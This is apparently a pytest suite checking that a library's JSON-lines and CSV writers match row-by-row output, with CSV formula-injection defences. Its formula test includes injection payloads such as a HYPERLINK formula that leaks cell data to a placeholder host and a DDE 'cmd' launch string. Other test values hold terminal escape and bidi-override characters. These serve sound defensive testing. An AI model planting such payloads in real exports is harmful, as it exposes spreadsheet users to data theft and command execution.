"""Rows as lines of JSON and CSV by the column, against the same rows written one by one."""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kwire import tables
from kwire.cli import lines
from kwire.cli.output import CsvOutput, JsonLinesOutput, open_output
from kwire.kernels.engine import PYTHON, Engine, using
from kwire.records.arrow_types import HEADERS, TIMESTAMP
from kwire.wire import FIRST_US, LAST_US

TEXTS = (
    None,
    "",
    "plain",
    'a "quote", a comma\nand \\ more\r\t\b\f\x00\x1b[31m\x7f',
    "\x80\x85\x9f\xa0ß\u061c\u061b",
    "\u200d\u200e\u200f\u2027\u2028\u2029\u202e\u202f\u2065\u2066\u2069\u206a",
    "\ud7ff\ue000\uffff\U0001f600\U0010ffff",
    "eight by" * 5 + "\x9b",
    "=1+1",
    '@SUM("a")',
    "-2",
    "\t=2",
    "a=b",
)
TIMES = (None, 0, -1, 1, 951_782_399_999_999, 951_782_400_000_000, FIRST_US, FIRST_US - 1, LAST_US, LAST_US + 1)
TIMES += (-(2**63), 2**63 - 1, 1_709_164_800_000_000, 4_107_542_399_000_001)
NUMBERS = (None, 0, -1, 9, 10, 99, 100, 2**63 - 1, -(2**63), 12345678901)
BYTES = (None, b"", b"a", b"ab", b"abc", bytes(range(256)))
FLOATS = (None, 0.5, -0.0, 1e300, float("nan"), float("inf"), float("-inf"), 1.0)
LISTS = (None, [], [{"key": "a", "value": b"x"}, None, {"key": None, "value": None}], [{"key": "\x85", "value": b""}])


def batch_of(rows: int = 30) -> pa.RecordBatch:
    """A batch of every type that the tables have, with nulls."""

    def column(values: Any, type_: pa.DataType) -> pa.Array:
        return pa.array([values[k % len(values)] for k in range(rows)], type_)

    return pa.record_batch(
        {
            "text": column(TEXTS, pa.string()),
            "body": column(('{"a":"\x7f\x85ü"}', None, "[]"), pa.string()),
            "time": column(TIMES, TIMESTAMP),
            "long": column(NUMBERS, pa.int64()),
            "int": column((None, 5, -5, 2**31 - 1, -(2**31)), pa.int32()),
            "short": column((None, 5, -5, 2**15 - 1, -(2**15)), pa.int16()),
            "byte": column((None, 5, -5, 127, -128), pa.int8()),
            "bytes": column(BYTES, pa.binary()),
            "bool": column((True, None, False), pa.bool_()),
            "float": column(FLOATS, pa.float64()),
            "headers": column(LISTS, HEADERS),
            "ints": column((None, [], [1, None, -3]), pa.list_(pa.int32())),
            "names": column((["a", '"'], None, []), pa.list_(pa.string())),
            "map": column((None, [("k", "v"), ("k", None), ("\x85", "")]), pa.map_(pa.string(), pa.string())),
            "buckets": column((None, [{"lower": None, "upper": float("inf"), "count": 3}]), BUCKETS),
            "parts": column((None, [], [{"begun": 0, "bytes": 3}, None, {"begun": None, "bytes": 2**60}]), STEPS),
            "date": column((None, 0, -1, 2**31 - 1, -(2**31)), pa.int32()).cast(pa.date32()),
            "millis": column((None, 0, 1_709_164_800_001, 2**63 - 1), pa.int64()).cast(pa.timestamp("ms", "UTC")),
            "nanos": column((None, 0, 1_709_164_800_000_000_001), pa.int64()).cast(pa.timestamp("ns")),
            "clock": column((None, 0, 86_399_999_999), pa.int64()).cast(pa.time64("us")),
            "money": column((None, Decimal("-12.30"), Decimal("0.00")), pa.decimal128(20, 2)),
            "large": column((None, Decimal(10**60)), pa.decimal256(70, 0)),
            "enum": column((None, "RED", "\x9b"), pa.dictionary(pa.int32(), pa.string())),
            "hash": column((None, b"12345678"), pa.binary(8)),
            "unsigned": column((None, 2**64 - 1), pa.uint64()),
            "order": column((None, {"at": 5, "cost": Decimal("1.10"), "text": "\x9b\u2028", "day": None}), ORDER),
            "days": column((None, [("k", 0), ("\x85", None)]), pa.map_(pa.string(), pa.date32())),
            "nothing": pa.nulls(rows, pa.string()),
            "same": pa.repeat(pa.scalar("x.pcap"), rows),
        }
    )


STEPS = pa.list_(pa.struct([("begun", TIMESTAMP), ("bytes", pa.int64())]))
ORDER = pa.struct(
    [("at", pa.timestamp("ns")), ("cost", pa.decimal128(9, 2)), ("text", pa.string()), ("day", pa.date32())]
)
BUCKETS = pa.list_(pa.struct([("lower", pa.float64()), ("upper", pa.float64()), ("count", pa.int64())]))


def by_row(output: Any, batch: pa.RecordBatch) -> str:
    with using(PYTHON):
        output.write(batch)
    text: str = output._file.getvalue()
    return text


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def leaves(type_: pa.DataType, inside: bool = False) -> set[tuple[str, bool]]:
    """The types of which a type is made, and whether it is in a list or struct."""
    if not pa.types.is_nested(type_):
        return {(str(type_), inside)}
    return {leaf for i in range(type_.num_fields) for leaf in leaves(type_.field(i).type, True)}


def test_each_type_of_the_tables_is_written() -> None:
    ours = {leaf for field in batch_of().schema for leaf in leaves(field.type)}
    for kind in (tables.CAPTURE, tables.LOG, tables.EVENTS):
        for name in tables.names(kind):
            for field in tables.table(name, kind).schema:
                # What is in a list is written as it is in a struct.
                assert leaves(field.type) <= ours | {(leaf, True) for leaf, _ in ours}, (name, field.name)


@pytest.mark.usefixtures("engine")
def test_lines_of_json_are_those_that_are_written_row_by_row(engine: Engine) -> None:
    batch = batch_of()
    expected = by_row(JsonLinesOutput(io.StringIO()), batch)
    assert b"".join(lines.json_lines(batch, engine)).decode() == expected
    assert len([json.loads(line) for line in expected.splitlines()]) == batch.num_rows


@pytest.mark.parametrize("terminal", [False, True])
def test_lines_of_csv_are_those_that_are_written_row_by_row(engine: Engine, terminal: bool) -> None:
    batch = batch_of()
    file = Terminal() if terminal else io.StringIO()
    expected = by_row(CsvOutput(file, batch.schema), batch)
    head, _, rest = expected.partition("\n")
    assert head.split(",") == batch.schema.names
    assert b"".join(lines.csv_lines(batch, engine, guarded=terminal)).decode() == rest
    assert terminal == (not any(char in rest for char in "\x00\x1b\x7f\x85\u202e"))


def test_csv_is_read_again() -> None:
    batch = batch_of()
    file = io.StringIO(by_row(CsvOutput(io.StringIO(), batch.schema), batch), newline="")
    rows = list(csv.DictReader(file))
    texts = [one or "" for one in batch.column("text").to_pylist()]
    assert [row["text"] for row in rows] == [f"'{one}" if one and one[0] in "=+-@\t" else one for one in texts]
    assert "-5" in {row["int"] for row in rows}
    assert [json.loads(row["names"]) if row["names"] else None for row in rows] == batch.column("names").to_pylist()


def test_no_text_is_a_formula_in_csv(engine: Engine) -> None:
    topics = [
        '=HYPERLINK("http://a/"&A1)',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@x",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "plain",
        "",
        None,
    ]
    batch = pa.record_batch({"topic": pa.array(topics, pa.string()), "number": pa.array(range(-13, 1), pa.int64())})
    text = b"".join(lines.csv_lines(batch, engine, guarded=False)).decode()
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert cells == [*(f"'{one}" for one in topics[:11]), "plain", "", ""]
    assert by_row(CsvOutput(io.StringIO(), batch.schema), batch).partition("\n")[2] == text


def test_slices_of_batches_are_written_as_they_are() -> None:
    batch = batch_of(50)
    for first, count in ((0, 1), (3, 9), (13, 20), (49, 1), (7, 0)):
        part = batch.slice(first, count)
        assert b"".join(lines.json_lines(part, PYTHON)).decode() == by_row(JsonLinesOutput(io.StringIO()), part)


def test_a_row_may_be_larger_than_a_piece(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "_PIECE", 100)
    monkeypatch.setattr(lines, "_ROWS", 3)
    batch = pa.record_batch({"a": ["x" * 5000, "\x00" * 700, "ü" * 300], "b": [b"y" * 3000, b"", None]})
    batch = pa.concat_batches([batch] * 3)
    assert b"".join(lines.json_lines(batch, PYTHON)).decode() == by_row(JsonLinesOutput(io.StringIO()), batch)


@given(st.lists(st.tuples(st.text(), st.binary(), st.integers(-(2**63), 2**63 - 1)), min_size=1, max_size=5))
def test_any_text_and_bytes(rows: list[tuple[str, bytes, int]]) -> None:
    batch = pa.record_batch(
        {
            "text": pa.array([one[0] for one in rows], pa.string()),
            "bytes": pa.array([one[1] for one in rows], pa.binary()),
            "time": pa.array([one[2] for one in rows], pa.int64()).cast(pa.timestamp("us")).cast(TIMESTAMP),
        }
    )
    assert b"".join(lines.json_lines(batch, PYTHON)).decode() == by_row(JsonLinesOutput(io.StringIO()), batch)
    expected = by_row(CsvOutput(io.StringIO(), batch.schema), batch).partition("\n")[2]
    assert b"".join(lines.csv_lines(batch, PYTHON, guarded=False)).decode() == expected


def test_arrow_in_a_file_and_in_a_stream(tmp_path: Any, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    batch = batch_of().drop_columns(["time", "float", "buckets"])
    path = tmp_path / "rows.arrow"
    with open_output("arrow", str(path), (), batch.schema) as output:
        output.write(batch)
    assert pa.ipc.open_file(path).read_all().to_batches()[0].equals(batch)
    with open_output("arrow", None, (), batch.schema) as output:
        output.write(batch)
    assert pa.ipc.open_stream(capfdbinary.readouterr().out).read_all().num_rows == batch.num_rows


def test_a_time_is_what_python_says() -> None:
    epoch = datetime.datetime(1970, 1, 1, tzinfo=datetime.UTC)
    times = [86_400_000_000 * day + 123_456 for day in range(-719_162, 2_932_897, 997)]
    batch = pa.record_batch({"t": pa.array(times, pa.int64()).cast(pa.timestamp("us")).cast(TIMESTAMP)})
    found = b"".join(lines.csv_lines(batch, PYTHON, guarded=False)).decode().split("\n")[:-1]
    expected = [(epoch + datetime.timedelta(microseconds=one)).isoformat() for one in times]
    assert found == [one.replace("+00:00", "Z") for one in expected]
